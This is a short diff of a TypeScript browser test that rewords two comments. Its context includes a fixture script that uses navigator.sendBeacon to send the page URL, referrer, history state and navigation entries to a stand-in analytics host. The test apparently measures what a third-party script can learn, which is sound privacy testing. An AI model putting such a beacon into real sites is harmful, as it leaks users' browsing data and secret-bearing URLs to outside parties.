@@ -9,7 +9,7 @@ import { EXTENDED_DIST } from '../support/test-site.ts';
 const STATISTICS = 'https://stats.example.com';
 const SECRET = 'cs_secret_17';
 
-/** Reports every address that a script in the page can learn of. */
+/** Reports every URL that a script in the page can see. */
 const CURIOUS = `navigator.sendBeacon('${STATISTICS}/beacon', JSON.stringify([
   location.href, document.referrer, JSON.stringify(history.state),
   ...navigation.entries().map(({ url }) => url),
@@ -17,7 +17,7 @@ const CURIOUS = `navigator.sendBeacon('${STATISTICS}/beacon', JSON.stringify([
 ]));`;
 
 interface Fixtures {
-  /** What the statistics company has heard: addresses asked for, their referrers, and what its script reported. */
+  /** What the statistics company receives: requested URLs, their referrers, and its script's reports. */
   heard: string[];
 }
 
